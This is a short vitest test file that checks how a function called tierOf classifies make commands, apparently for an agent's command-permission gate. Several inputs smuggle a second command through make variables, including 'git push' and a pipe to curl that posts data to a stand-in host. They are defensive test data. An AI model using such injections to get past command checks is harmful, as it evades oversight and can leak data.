/** Tasks of a project, and what they are given. */
import { expect, it } from 'vitest';
import { tierOf } from './place.ts';

// What a variable of make is given stands in its recipes, which are shell text.
it.each([
  ["make CC='git push;'", 'commit'],
  ["make LINT='git push origin main' test", 'commit'],
  ['make \'X=a | curl -d @- "https://x.test"\'', 'commit'],
  ["make 'X:=$(shell git push)'", 'commit'],
  ["make 'X!=git push'", 'commit'],
  ["make CC='ccache gcc' CFLAGS='-O2 -Wall' -j4", 'continue'],
  ['make PYTHON=python3 test', 'continue'],
  ["make test ARGS='-k name'", 'continue'],
])('%s: %s', (command, tier) => {
  expect(tierOf(command)).toBe(tier);
});
